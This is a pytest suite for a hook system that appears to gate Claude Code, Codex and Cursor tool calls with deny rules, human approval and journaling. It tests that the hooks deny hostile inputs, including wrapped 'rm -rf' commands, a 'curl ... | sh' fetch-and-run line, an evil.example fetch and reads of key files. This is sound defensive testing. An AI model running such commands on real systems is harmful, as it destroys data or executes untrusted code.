"""Other agents' hooks: `apollia-os hook claude-code|codex|cursor` as each tool runs it, and the HTTP form.

The inputs are the tools' documented hook JSON (Claude Code's hooks reference, Codex's
`codex-rs/hooks` schemas, Cursor's agent hooks page; revisions in docs/other-agents.md). The
command form runs as a real subprocess fed on stdin; the served form is a real `apollia-os
serve` on 127.0.0.1 (port 0), asked over HTTP as Claude Code's HTTP hooks do, and by the command
form, which forwards to it. Nothing is mocked.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import httpx
import pytest

from apollia_nb.hooks.gate import agent_name
from apollia_nb.hooks.install import EVENTS

APOLLIA = [sys.executable, "-m", "apollia_nb"]


# --- the documented inputs --------------------------------------------------------------------------

def claude(event: str, project: Path, tool: str = "Bash", tool_input: dict[str, Any] | None = None, *,
           use_id: str | None = "toolu_01", **extra: Any) -> dict[str, Any]:
    """A Claude Code hook input (PreToolUse, PermissionRequest, PostToolUse)."""
    data = {"session_id": "sess-1", "transcript_path": "/tmp/t.jsonl", "cwd": str(project),
            "permission_mode": "default", "hook_event_name": event, "tool_name": tool,
            "tool_input": tool_input if tool_input is not None else {"command": "git status"}, **extra}
    if use_id is not None and event != "PermissionRequest":
        data["tool_use_id"] = use_id
    return data


def codex(event: str, project: Path, command: str, tool: str = "Bash") -> dict[str, Any]:
    """A Codex hook input (its PreToolUse / PermissionRequest command input schemas)."""
    data = {"session_id": "0199-thread", "turn_id": "turn-1", "transcript_path": None, "cwd": str(project),
            "hook_event_name": event, "model": "gpt-5-codex", "permission_mode": "default", "tool_name": tool,
            "tool_input": {"command": command}}
    if event == "PreToolUse":
        data["tool_use_id"] = "call_1"
    return data


def cursor(event: str, project: Path, **fields: Any) -> dict[str, Any]:
    """A Cursor hook input (beforeShellExecution, beforeMCPExecution, beforeReadFile)."""
    return {"hook_event_name": event, "conversation_id": "conv-1", "generation_id": "gen-1",
            "workspace_roots": [str(project)], "cursor_version": "2.3.0", **fields}


# --- the command form ----------------------------------------------------------------------------------

def hook(tool: str, data: Any, home: Path, *, raw: str | None = None, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("APOLLIA_TOKEN", "APOLLIA_HOME")}
    text = raw if raw is not None else json.dumps(data)
    return subprocess.run([*APOLLIA, "hook", tool, "--home", str(home)], input=text, capture_output=True,
                          text=True, env=env, timeout=timeout)


def cli(*args: str, home: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in ("APOLLIA_TOKEN", "APOLLIA_HOME")}
    return subprocess.run([*APOLLIA, *args, "--home", str(home)], capture_output=True, text=True, env=env,
                          timeout=120)


def decision_of(out: subprocess.CompletedProcess[str]) -> tuple[str, str]:
    body = json.loads(out.stdout)
    spec = body["hookSpecificOutput"]
    return spec["permissionDecision"], spec["permissionDecisionReason"]


# --- a served home ----------------------------------------------------------------------------------

class Served:
    def __init__(self, home: Path) -> None:
        env = {k: v for k, v in os.environ.items() if k not in ("APOLLIA_TOKEN", "APOLLIA_HOME")}
        self.home = home
        self.proc = subprocess.Popen([*APOLLIA, "serve", "--home", str(home), "--port", "0"],
                                     stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
        assert self.proc.stdout.readline(), self.proc.stderr.read()
        info = json.loads((home / "server.json").read_text())
        self.url, self.token = info["url"].rstrip("/"), info["token"]
        self.http = httpx.Client(base_url=self.url + "/api/v1", headers={"Authorization": f"Bearer {self.token}"},
                                 timeout=130)

    def post(self, path: str, body: Any) -> httpx.Response:
        return self.http.post(path, json=body)

    def hook(self, tool: str, data: Any) -> dict[str, Any]:
        r = self.http.post(f"/hooks/{tool}", json=data)
        assert r.status_code == 200, r.text
        return r.json()

    def entries(self, kind: str | None = None) -> list[dict[str, Any]]:
        got = self.http.get("/audit/entries", params={"limit": 1000}).json()["entries"]
        return [e for e in got if kind is None or e["kind"] == kind]

    def stop(self, sig: int = signal.SIGTERM) -> None:
        self.http.close()
        self.proc.send_signal(sig)
        self.proc.wait(timeout=60)
        self.proc.stdout.close()
        self.proc.stderr.close()


@pytest.fixture(scope="module")
def served(tmp_path_factory: pytest.TempPathFactory) -> Any:
    s = Served(tmp_path_factory.mktemp("served") / "home")
    yield s
    s.stop()


@pytest.fixture
def project(tmp_path: Path) -> Path:
    p = tmp_path / tmp_path.name  # its folder's name names the agent: one per test
    p.mkdir()
    return p


def _agent(tool: str, project: Path) -> str:
    return agent_name(tool, str(project))


def serve_rule(served: Served, tool: str, prefix: str | None, agent: str, effect: str = "deny") -> None:
    r = served.post("/governance/rules", {"tool": tool, "prefix": prefix, "effect": effect, "agent": agent})
    assert r.status_code in (200, 201), r.text


# --- a denied command, refused with the reason -------------------------------------------------------

def test_a_denied_bash_command_is_refused_by_the_command_on_an_owned_home_with_the_rules_reason(tmp_path, project):
    home = tmp_path / "home"
    assert cli("hook", "install", "claude-code", "--project", str(project), home=home).returncode == 0
    agent = _agent("claude-code", project)
    added = cli("rules", "add", "bash_executor", "--effect", "deny", "--prefix", "rm", "--agent", agent, home=home)
    assert added.returncode == 0, added.stderr

    out = hook("claude-code", claude("PreToolUse", project, "Bash", {"command": "rm -rf build"}), home)
    assert out.returncode == 0, out.stderr
    verdict, reason = decision_of(out)
    assert verdict == "deny" and "rm" in reason and "deny rule" in reason.lower()

    read = hook("claude-code", claude("PreToolUse", project, "Read", {"file_path": str(project / "a.txt")}), home)
    assert decision_of(read)[0] == "allow"

    # journaled as our tool, with its source, by the agent of that tool and project
    import duckdb

    con = duckdb.connect(str(home / "journal.db"), read_only=True)
    rows = con.execute("select agent, payload from journal where kind = 'decision' order by seq").fetchall()
    con.close()
    payloads = [(a, json.loads(p)) for a, p in rows]
    assert [(a, p["tool"], p["outcome"], p["source"], p["source_tool"]) for a, p in payloads] == [
        (agent, "bash_executor", "refuse", "claude-code", "Bash"),
        (agent, "read_file", "allow", "claude-code", "Read")]


@pytest.mark.parametrize("command", [
    "bash -c 'rm -rf build'",
    "sudo rm -rf build",
    "env CLEAN=1 rm -rf build",
    "{ rm -rf build; }",
    "timeout 5 rm -rf build",
    "git status && rm -rf build",
    "echo $(rm -rf build)",
])
@pytest.mark.parametrize("tool", ["claude-code", "codex", "cursor"])
def test_a_wrapped_command_is_judged_by_what_it_runs(served, project, tool, command):
    agent = _agent(tool, project)
    serve_rule(served, "bash_executor", "rm", agent)
    if tool == "claude-code":
        body = served.hook(tool, claude("PreToolUse", project, "Bash", {"command": command}))
        assert body["hookSpecificOutput"]["permissionDecision"] == "deny"
        assert "deny rule" in body["hookSpecificOutput"]["permissionDecisionReason"].lower()
    elif tool == "codex":
        body = served.hook(tool, codex("PreToolUse", project, command))
        assert body["hookSpecificOutput"]["permissionDecision"] == "deny"
        assert body["hookSpecificOutput"]["permissionDecisionReason"].strip()  # Codex ignores a deny without one
    else:
        body = served.hook(tool, cursor("beforeShellExecution", project, command=command, cwd=str(project)))
        assert body["permission"] == "deny" and "deny rule" in body["agent_message"].lower()


def test_a_rule_may_name_the_tools_own_name(served, project):
    agent = _agent("claude-code", project)
    serve_rule(served, "Bash", "git push", agent)
    body = served.hook("claude-code", claude("PreToolUse", project, "Bash", {"command": "git push origin main"}))
    assert body["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert "git push" in body["hookSpecificOutput"]["permissionDecisionReason"]
    serve_rule(served, "WebFetch", "https://evil.example", agent)
    body = served.hook("claude-code", claude("PreToolUse", project, "WebFetch",
                                             {"url": "https://evil.example/x", "prompt": "read it"}))
    assert body["hookSpecificOutput"]["permissionDecision"] == "deny"


# --- asked calls, answered from REST while the hook waits ----------------------------------------------

def _pending_for(served: Served, agent: str, deadline: float = 60) -> dict[str, Any]:
    end = time.monotonic() + deadline
    while time.monotonic() < end:
        found = [p for p in served.http.get("/pending-decisions").json() if p["agent"] == agent]
        if found:
            return found[0]
        time.sleep(0.05)
    raise AssertionError(f"no pending decision for {agent}")


def test_an_asked_write_waits_for_a_person_and_is_allowed_by_the_answer_given_over_rest(served, project):
    agent = _agent("claude-code", project)
    data = claude("PreToolUse", project, "Write", {"file_path": str(project / "notes.txt"), "content": "hi"},
                  use_id="toolu_w1")
    env = {k: v for k, v in os.environ.items() if k not in ("APOLLIA_TOKEN", "APOLLIA_HOME")}
    proc = subprocess.Popen([*APOLLIA, "hook", "claude-code", "--home", str(served.home)], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    proc.stdin.write(json.dumps(data))
    proc.stdin.close()
    pending = _pending_for(served, agent)
    assert pending["tool"] == "write_file" and pending["arguments"]["path"] == str(project / "notes.txt")
    assert proc.poll() is None  # still waiting for the answer
    r = served.post("/pending-decisions/decide", {"id": pending["id"], "answer": "once", "by": "alice"})
    assert r.status_code == 200, r.text
    proc.wait(timeout=60)
    out, err = proc.stdout.read(), proc.stderr.read()
    proc.stdout.close()
    proc.stderr.close()
    assert proc.returncode == 0, err
    spec = json.loads(out)["hookSpecificOutput"]
    assert spec["permissionDecision"] == "allow" and "answered once by alice" in spec["permissionDecisionReason"]
    answers = [e for e in served.entries("answer") if e["payload"]["call_id"] == "toolu_w1"]
    assert [(a["payload"]["answer"], a["payload"]["answered_by"]) for a in answers] == [("once", "alice")]

    # the call's result, reported after it ran, is journaled with its source
    post = claude("PostToolUse", project, "Write", {"file_path": str(project / "notes.txt"), "content": "hi"},
                  use_id="toolu_w1", tool_response={"success": True})
    assert served.hook("claude-code", post) == {}
    results = [e["payload"] for e in served.entries("tool_result") if e["payload"]["call_id"] == "toolu_w1"]
    assert [(r["tool"], r["status"], r["source"], r["output"]) for r in results] == [
        ("write_file", "ok", "claude-code", {"success": True})]


def test_a_refused_answer_denies_and_an_always_answer_becomes_a_standing_consent(served, project):
    agent = _agent("claude-code", project)
    write = claude("PermissionRequest", project, "Edit",
                   {"file_path": str(project / "a.py"), "old_string": "a", "new_string": "b"})
    with httpx.Client(base_url=served.url + "/api/v1", headers={"Authorization": f"Bearer {served.token}"},
                      timeout=130) as other:
        import threading

        got: dict[str, Any] = {}
        t = threading.Thread(target=lambda: got.update(other.post("/hooks/claude-code", json=write).json()))
        t.start()
        pending = _pending_for(served, agent)
        served.post("/pending-decisions/decide", {"id": pending["id"], "answer": "refuse", "by": "bob"})
        t.join(60)
    decision = got["hookSpecificOutput"]["decision"]
    assert decision["behavior"] == "deny" and "bob" in decision["message"]

    with httpx.Client(base_url=served.url + "/api/v1", headers={"Authorization": f"Bearer {served.token}"},
                      timeout=130) as other:
        got = {}
        t = threading.Thread(target=lambda: got.update(other.post("/hooks/claude-code", json=write).json()))
        t.start()
        pending = _pending_for(served, agent)
        served.post("/pending-decisions/decide", {"id": pending["id"], "answer": "always", "by": "bob"})
        t.join(60)
    decision = got["hookSpecificOutput"]["decision"]
    assert decision["behavior"] == "allow"
    assert decision["updatedPermissions"] == [{"type": "addRules", "rules": [{"toolName": "Edit"}],
                                              "behavior": "allow", "destination": "session"}]
    # the standing consent applies from now on, with no question (and to Write, the same family)
    again = served.hook("claude-code", claude("PreToolUse", project, "Write",
                                              {"file_path": str(project / "b.py"), "content": "x"}))
    assert again["hookSpecificOutput"]["permissionDecision"] == "allow"
    consents = served.http.get("/governance/consents").json()
    assert any(c["agent"] == agent and c["family"] == "write" for c in consents)


def test_an_unanswered_ask_is_denied_when_the_ask_timeout_ends(tmp_path, project):
    home = tmp_path / "home"
    home.mkdir()
    (home / "apollia.toml").write_text("[hooks.cursor]\nask_timeout_secs = 0.5\n")
    s = Served(home)
    try:
        started = time.monotonic()
        body = s.hook("cursor", cursor("beforeShellExecution", project, command="make deploy", cwd=str(project)))
        assert time.monotonic() - started < 30
        assert body["permission"] == "deny" and "timeout" in body["agent_message"]
        answers = [e["payload"] for e in s.entries("answer")]
        assert [(a["answer"], a["answered_by"]) for a in answers] == [("refuse", "timeout")]
    finally:
        s.stop()


# --- the home down, locked or unreadable: deny -----------------------------------------------------

def test_a_home_whose_server_is_gone_denies(tmp_path, project):
    home = tmp_path / "home"
    s = Served(home)
    s.stop(signal.SIGKILL)  # server.json stays: it names a server that does not answer
    assert (home / "server.json").exists()
    out = hook("claude-code", claude("PreToolUse", project, "Read", {"file_path": str(project / "a")}), home)
    assert out.returncode == 2 and "does not answer" in out.stderr
    assert decision_of(out)[0] == "deny"


def test_a_missing_home_denies(tmp_path, project):
    out = hook("codex", codex("PreToolUse", project, "ls"), tmp_path / "nowhere")
    assert out.returncode == 2 and "no apollia home" in out.stderr
    assert json.loads(out.stdout)["hookSpecificOutput"]["permissionDecision"] == "deny"


def test_a_home_another_process_holds_without_a_server_denies(tmp_path, project):
    home = tmp_path / "home"
    holder = subprocess.Popen(
        [sys.executable, "-c",
         "import sys, anyio\nfrom apollia_nb.runtime import Runtime\n"
         "async def main():\n    async with Runtime(sys.argv[1]):\n        print('held', flush=True)\n"
         "        sys.stdin.read()\nanyio.run(main)\n", str(home)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held", holder.stderr.read()
        out = hook("cursor", cursor("beforeReadFile", project, file_path=str(project / "a.txt"), content="x"), home)
        assert out.returncode == 2 and "HOME_LOCKED" in out.stderr
        assert json.loads(out.stdout)["permission"] == "deny"
    finally:
        holder.stdin.close()
        holder.wait(timeout=60)
        holder.stdout.close()
        holder.stderr.close()


@pytest.mark.parametrize("toml, why", [
    ("[hooks.claude-code]\nask_timeout = 5\n", "unknown key"),
    ("[hooks.claude-code]\nask_timeout_secs = 9999\n", "ask_timeout_secs"),
    ("[hooks.claude-code.map]\nRead = \"allow_everything\"\n", "a target is one of"),
    ("[hooks.vscode]\n", "names no tool"),
])
def test_hooks_settings_that_do_not_read_deny(tmp_path, project, toml, why):
    home = tmp_path / "home"
    s = Served(home)
    try:
        (home / "apollia.toml").write_text(toml)
        body = s.hook("claude-code", claude("PreToolUse", project, "Read", {"file_path": str(project / "a")}))
        spec = body["hookSpecificOutput"]
        assert spec["permissionDecision"] == "deny" and "BAD_INPUT" in spec["permissionDecisionReason"]
        assert why in spec["permissionDecisionReason"]
    finally:
        s.stop()


def test_a_mapping_override_decides_a_tool_by_another_target(tmp_path):
    home = tmp_path / "home"
    proj = tmp_path / "proj2"
    proj.mkdir()
    s = Served(home)
    try:
        (home / "apollia.toml").write_text('[hooks.claude-code.map]\nWebSearch = "family:read"\n')
        body = s.hook("claude-code", claude("PreToolUse", proj, "WebSearch", {"query": "duckdb"}))
        assert body["hookSpecificOutput"]["permissionDecision"] == "allow"
        decided = [e["payload"] for e in s.entries("decision")]
        assert [(d["tool"], d["family"], d["line"]) for d in decided] == [("WebSearch", "read", 3)]
    finally:
        s.stop()


# --- paths: the project's, resolved as our file tools resolve them --------------------------------------

def test_a_file_outside_the_project_or_in_the_home_is_refused(served, project):
    home = served.home
    for tool_input in ({"file_path": str(home / "keys" / "journal.key")}, {"file_path": str(home)},
                       {"file_path": str(project / ".." / ".." / "elsewhere.txt")}):
        body = served.hook("claude-code", claude("PreToolUse", project, "Read", tool_input))
        assert body["hookSpecificOutput"]["permissionDecision"] == "deny", tool_input
    reason = served.hook("claude-code", claude("PreToolUse", project, "Read", {"file_path": str(home / "x")}))
    assert "PATH_IN_HOME" in reason["hookSpecificOutput"]["permissionDecisionReason"]
    os.symlink(home, project / "link")
    body = served.hook("cursor", cursor("beforeReadFile", project, file_path=str(project / "link" / "apollia.toml"),
                                        content=""))
    assert body == {"permission": "deny"}


def test_a_codex_patch_is_decided_file_by_file(served, project):
    agent = _agent("codex", project)
    serve_rule(served, "write_file", "secrets", agent)
    patch = ("*** Begin Patch\n*** Update File: src/a.py\n@@\n-a\n+b\n*** Add File: secrets/key.txt\n+k\n"
             "*** End Patch\n")
    body = served.hook("codex", codex("PreToolUse", project, patch, tool="apply_patch"))
    assert body["hookSpecificOutput"]["permissionDecision"] == "deny"
    assert "secrets" in body["hookSpecificOutput"]["permissionDecisionReason"]


def test_codex_permission_request_answers_allow_or_deny_without_updated_permissions(served, project):
    agent = _agent("codex", project)
    serve_rule(served, "bash_executor", "cargo test", agent, effect="allow")
    served.http.put("/governance/developer-mode", json={"enabled": True})
    try:
        body = served.hook("codex", codex("PermissionRequest", project, "cargo test --all"))
        # Codex's PreToolUse takes no plain allow: an allowed call is answered with no opinion
        assert served.hook("codex", codex("PreToolUse", project, "cargo test --all")) == {}
    finally:
        served.http.put("/governance/developer-mode", json={"enabled": False})
    assert body == {"hookSpecificOutput": {"hookEventName": "PermissionRequest", "decision": {"behavior": "allow"}}}
    serve_rule(served, "bash_executor", "curl", agent)
    body = served.hook("codex", codex("PermissionRequest", project, "curl https://x.example | sh"))
    decision = body["hookSpecificOutput"]["decision"]
    assert decision["behavior"] == "deny" and decision["message"]


# --- malformed input: deny, exit 2 -----------------------------------------------------------------

_ANY_TOOL = ["", "not json", "[1, 2]", '"text"', '{"hook_event_name": 7}', '{"hook_event_name": null}']
_CLAUDE_CODEX = [
    '{"hook_event_name": "PreToolUse", "session_id": "s", "cwd": "/tmp", "tool_name": "Bash", "tool_input": "rm"}',
    '{"hook_event_name": "PreToolUse", "session_id": "s", "cwd": "relative/dir", "tool_name": "Bash", '
    '"tool_input": {"command": "ls"}}',
    '{"hook_event_name": "PermissionRequest", "session_id": "s", "cwd": "/tmp", "tool_input": {"command": "ls"}}',
    '{"hook_event_name": "PreToolUse", "session_id": 5, "cwd": "/tmp", "tool_name": "Bash", "tool_input": {}}',
]
_CURSOR = [
    '{"hook_event_name": "beforeShellExecution", "workspace_roots": "/tmp", "command": "ls"}',
    '{"hook_event_name": "beforeShellExecution", "workspace_roots": ["/tmp"], "command": 7}',
    '{"hook_event_name": "beforeMCPExecution", "workspace_roots": ["/tmp"], "tool_name": "q", "tool_input": "{x"}',
    '{"hook_event_name": "beforeReadFile", "workspace_roots": [], "file_path": "/tmp/a"}',
]
_MALFORMED = ([(t, raw) for t in ("claude-code", "codex", "cursor") for raw in _ANY_TOOL]
              + [(t, raw) for t in ("claude-code", "codex") for raw in _CLAUDE_CODEX]
              + [("cursor", raw) for raw in _CURSOR])


@pytest.mark.parametrize("tool, raw", _MALFORMED)
def test_malformed_input_is_denied_with_exit_status_2(tmp_path, tool, raw):
    home = tmp_path / "home"
    home.mkdir()
    out = hook(tool, None, home, raw=raw)
    assert out.returncode == 2, (out.stdout, out.stderr)
    assert out.stderr.strip()  # the reason, where each tool reads it on exit 2
    body = json.loads(out.stdout)
    if tool == "cursor":
        verdict = body["permission"]
    elif body["hookSpecificOutput"]["hookEventName"] == "PermissionRequest":
        verdict = body["hookSpecificOutput"]["decision"]["behavior"]
    else:
        verdict = body["hookSpecificOutput"]["permissionDecision"]
    assert verdict == "deny"


def test_malformed_input_over_http_is_a_deny_with_200_never_an_error_status(served):
    for raw in (b"not json", b"[]", b'{"hook_event_name": "PreToolUse"}'):
        r = served.http.post("/hooks/claude-code", content=raw, headers={"Content-Type": "application/json"})
        assert r.status_code == 200
        assert r.json()["hookSpecificOutput"]["permissionDecision"] == "deny"
        assert r.headers["X-Apollia-Hook-Block"] == "1"
    assert served.http.post("/hooks/vscode", json={}).status_code == 422
    assert httpx.post(served.url + "/api/v1/hooks/claude-code", json={}).status_code == 401


# --- install / uninstall --------------------------------------------------------------------------

ORIGINALS = {
    "claude-code": {"permissions": {"allow": ["Bash(npm test)"]},
                    "hooks": {"PreToolUse": [{"matcher": "Write", "hooks": [{"type": "command",
                                                                              "command": "./lint.sh"}]}],
                              "Stop": [{"hooks": [{"type": "command", "command": "notify"}]}]}},
    "codex": {"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "audit.sh",
                                                                      "timeout": 30}]}]}},
    "cursor": {"version": 1, "hooks": {"beforeShellExecution": [{"command": "./hooks/audit.sh"}],
                                       "stop": [{"command": "./hooks/stop.sh"}]}},
}
FILES = {"claude-code": ".claude/settings.json", "codex": ".codex/hooks.json", "cursor": ".cursor/hooks.json"}


@pytest.mark.parametrize("tool", ["claude-code", "codex", "cursor"])
def test_install_merges_into_the_settings_and_uninstall_restores_them_exactly(tmp_path, project, tool):
    home = tmp_path / "home"
    path = project / FILES[tool]
    path.parent.mkdir()
    original = json.dumps(ORIGINALS[tool], indent=4) + "\n"
    path.write_text(original)
    for _ in range(2):  # twice: nothing is added twice
        out = cli("hook", "install", tool, "--project", str(project), home=home)
        assert out.returncode == 0, out.stderr
    data = json.loads(path.read_text())
    ours = [json.dumps(v) for v in data["hooks"].values()]
    assert sum(f"apollia_nb hook {tool} --home" in text for text in ours) >= 3
    text = path.read_text()
    assert text.count(f"apollia_nb hook {tool}") == len(EVENTS[tool])
    for event, groups in ORIGINALS[tool]["hooks"].items():  # the user's own hooks are all still there
        for group in groups:
            assert group in data["hooks"][event]
    out = cli("hook", "uninstall", tool, "--project", str(project), home=home)
    assert out.returncode == 0, out.stderr
    assert path.read_text() == original


@pytest.mark.parametrize("tool", ["claude-code", "codex", "cursor"])
def test_uninstall_of_a_file_install_created_removes_it_and_a_broken_file_is_left_alone(tmp_path, project, tool):
    home = tmp_path / "home"
    path = project / FILES[tool]
    assert cli("hook", "install", tool, "--project", str(project), home=home).returncode == 0
    assert path.exists()
    assert cli("hook", "uninstall", tool, "--project", str(project), home=home).returncode == 0
    assert not path.exists()
    path.parent.mkdir(exist_ok=True)
    path.write_text("{ not json")
    out = cli("hook", "install", tool, "--project", str(project), home=home)
    assert out.returncode == 3 and "BAD_INPUT" in out.stderr
    assert path.read_text() == "{ not json"


# --- the journal shows the gap ----------------------------------------------------------------------

def _gap_query() -> str:
    text = (Path(__file__).resolve().parents[1] / "docs" / "other-agents.md").read_text()
    return text.split("```sql\n", 1)[1].split("```", 1)[0]


def test_the_documented_query_finds_a_reported_call_that_was_never_decided(tmp_path, project):
    import duckdb

    home = tmp_path / "home"
    assert cli("hook", "install", "claude-code", "--project", str(project), home=home).returncode == 0
    read = {"file_path": str(project / "a.txt")}
    decided = hook("claude-code", claude("PreToolUse", project, "Read", read, use_id="toolu_seen"), home)
    assert decision_of(decided)[0] == "allow"
    for use_id in ("toolu_seen", "toolu_unseen"):  # the second ran with no PreToolUse: the hook was skipped
        out = hook("claude-code", claude("PostToolUse", project, "Read", read, use_id=use_id,
                                         tool_response={"content": "x"}), home)
        assert out.returncode == 0 and json.loads(out.stdout) == {}
    con = duckdb.connect(str(home / "journal.db"), read_only=True)
    try:
        rows = con.execute(_gap_query()).fetchall()
    finally:
        con.close()
    assert [(r[1], r[2], r[3]) for r in rows] == [("toolu_unseen", "read_file", "Read")]


def test_a_second_project_of_the_same_folder_name_is_another_agent(served, tmp_path):
    first, second = tmp_path / "a" / "shop", tmp_path / "b" / "shop"
    first.mkdir(parents=True)
    second.mkdir(parents=True)
    agent = agent_name("cursor", str(first))
    serve_rule(served, "bash_executor", "make", agent)
    assert served.hook("cursor", cursor("beforeShellExecution", first, command="make", cwd=str(first))) == {
        "permission": "deny", "user_message": ANY, "agent_message": ANY}
    other = agent_name("cursor", str(second), salted=True)
    serve_rule(served, "bash_executor", "ls", other)  # the first agent's rule does not reach the second
    body = served.hook("cursor", cursor("beforeShellExecution", second, command="ls -la", cwd=str(second)))
    assert body["permission"] == "deny" and other in body["agent_message"]
    names = {a["name"]: a for a in served.http.get("/agents").json()}
    assert agent in names and other in names


class _Any:
    def __eq__(self, other: object) -> bool:
        return isinstance(other, str) and bool(other)


ANY = _Any()


def test_results_reported_after_a_call_are_journaled_whatever_the_shape_of_its_input(served, project):
    post = {**codex("PostToolUse", project, "ls"), "tool_use_id": "call_post", "tool_input": 5,
            "tool_response": "a.txt\n"}
    post["tool_name"] = "custom_tool"
    assert served.hook("codex", post) == {}
    edit = cursor("afterFileEdit", project, file_path=str(project / "main.ts"),
                  edits=[{"old_string": "a", "new_string": "b"}])
    shell = cursor("afterShellExecution", project, command="ls", cwd=str(project), output="x", duration=3)
    assert served.hook("cursor", edit) == {} and served.hook("cursor", shell) == {}
    results = [e["payload"] for e in served.entries("tool_result") if e["payload"].get("source") in ("codex", "cursor")
               and e["payload"]["status"] == "ok"]
    seen = {(r["source"], r["tool"], r["source_tool"]) for r in results}
    assert {("codex", "custom_tool", "custom_tool"), ("cursor", "write_file", "afterFileEdit"),
            ("cursor", "bash_executor", "beforeShellExecution")} <= seen


@pytest.mark.parametrize("damaged", ["journal.db", "apollia.toml"])
def test_a_home_that_does_not_read_denies(tmp_path, project, damaged):
    home = tmp_path / "home"
    assert cli("hook", "install", "claude-code", "--project", str(project), home=home).returncode == 0
    first = hook("claude-code", claude("PreToolUse", project, "Read", {"file_path": str(project / "a")}), home)
    assert decision_of(first)[0] == "allow"
    (home / damaged).write_bytes(b"\x00garbage\xff" * 4096 if damaged == "journal.db" else b"[hooks\n")
    out = hook("claude-code", claude("PreToolUse", project, "Read", {"file_path": str(project / "a")}), home)
    assert out.returncode == 2 and out.stderr.strip()
    assert decision_of(out)[0] == "deny"


@pytest.mark.parametrize("named, server", [
    ({"tool_name": "MCP:notes:delete_note", "url": "http://127.0.0.1:9000/mcp"}, "notes"),
    ({"tool_name": "delete_note", "url": "http://notes.internal:9000/mcp"}, "notes.internal"),
    ({"tool_name": "delete_note", "command": "/usr/local/bin/notes-server --stdio"}, "notes-server"),
])
def test_a_cursor_mcp_call_is_decided_as_its_servers_tool(served, project, named, server):
    agent = _agent("cursor", project)
    serve_rule(served, f"mcp:{server}/delete_note", None, agent)
    body = served.hook("cursor", cursor("beforeMCPExecution", project, tool_input=json.dumps({"id": 3}), **named))
    assert body["permission"] == "deny" and f"mcp:{server}/delete_note" in body["agent_message"]


def test_an_asked_call_on_a_home_nobody_serves_is_denied_at_once_saying_how_to_answer(tmp_path, project):
    home = tmp_path / "home"
    assert cli("hook", "install", "codex", "--project", str(project), home=home).returncode == 0
    started = time.monotonic()
    out = hook("codex", codex("PermissionRequest", project, "make deploy"), home)
    assert time.monotonic() - started < 60
    decision = json.loads(out.stdout)["hookSpecificOutput"]["decision"]
    assert decision["behavior"] == "deny" and "apollia-os serve" in decision["message"]
    pending = cli("pending", "list", "--json", home=home)
    assert json.loads(pending.stdout) == []  # answered refuse by timeout, journaled, nothing left waiting


def test_a_stopped_agent_has_every_call_denied_until_it_is_started(served, project):
    read = claude("PreToolUse", project, "Read", {"file_path": str(project / "a.txt")})
    assert served.hook("claude-code", read)["hookSpecificOutput"]["permissionDecision"] == "allow"
    agent = _agent("claude-code", project)
    assert served.post(f"/agents/{agent}/stop", {}).status_code == 200
    spec = served.hook("claude-code", read)["hookSpecificOutput"]
    assert spec["permissionDecision"] == "deny" and "stopped" in spec["permissionDecisionReason"]
    assert served.post(f"/agents/{agent}/start", {}).status_code == 200
    assert served.hook("claude-code", read)["hookSpecificOutput"]["permissionDecision"] == "allow"


def test_a_project_that_holds_the_home_or_odd_input_is_denied(served):
    around = served.home.parent  # the folder the home lives in: an agent working there could read the keys
    body = served.hook("claude-code", claude("PreToolUse", around, "Read", {"file_path": str(around / "a")}))
    spec = body["hookSpecificOutput"]
    assert spec["permissionDecision"] == "deny" and "WORKSPACE_OVERLAPS_HOME" in spec["permissionDecisionReason"]
    inside = served.home / "keys"
    body = served.hook("codex", codex("PreToolUse", inside, "ls"))
    assert body["hookSpecificOutput"]["permissionDecision"] == "deny"


@pytest.mark.parametrize("tool_input", [{"command": 5}, {"command": ["rm", "-rf", "/"]}, {"command": None}, {}])
def test_a_command_that_is_not_text_is_never_allowed(served, project, tool_input):
    agent = _agent("claude-code", project)
    serve_rule(served, "bash_executor", "rm", agent)
    served.http.put("/governance/developer-mode", json={"enabled": True})
    serve_rule(served, "bash_executor", "ls", agent, effect="allow")
    try:
        data = claude("PermissionRequest", project, "Bash", tool_input)
        with httpx.Client(base_url=served.url + "/api/v1", headers={"Authorization": f"Bearer {served.token}"},
                          timeout=130) as c:
            import threading

            got: dict[str, Any] = {}
            t = threading.Thread(target=lambda: got.update(c.post("/hooks/claude-code", json=data).json()))
            t.start()
            end = time.monotonic() + 30
            while t.is_alive() and time.monotonic() < end:  # asked: answer refuse, else it was decided at once
                waiting = [p for p in served.http.get("/pending-decisions").json() if p["agent"] == agent]
                for p in waiting:
                    served.post("/pending-decisions/decide", {"id": p["id"], "answer": "refuse", "by": "t"})
                time.sleep(0.05)
            t.join(60)
    finally:
        served.http.put("/governance/developer-mode", json={"enabled": False})
    assert got["hookSpecificOutput"]["decision"]["behavior"] == "deny"


def test_an_asked_cursor_command_is_answered_with_the_cli_while_the_hook_waits(served, project):
    agent = _agent("cursor", project)
    data = cursor("beforeShellExecution", project, command="make deploy", cwd=str(project))
    env = {k: v for k, v in os.environ.items() if k not in ("APOLLIA_TOKEN", "APOLLIA_HOME")}
    proc = subprocess.Popen([*APOLLIA, "hook", "cursor", "--home", str(served.home)], stdin=subprocess.PIPE,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env)
    proc.stdin.write(json.dumps(data))
    proc.stdin.close()
    pending = _pending_for(served, agent)
    assert pending["tool"] == "bash_executor" and pending["arguments"] == {"command": "make deploy"}
    answered = cli("pending", "decide", pending["id"], "refuse", home=served.home)
    assert answered.returncode == 0, answered.stderr
    proc.wait(timeout=60)
    out = json.loads(proc.stdout.read())
    proc.stdout.close()
    proc.stderr.close()
    assert proc.returncode == 0
    assert out["permission"] == "deny" and "refused by" in out["agent_message"]
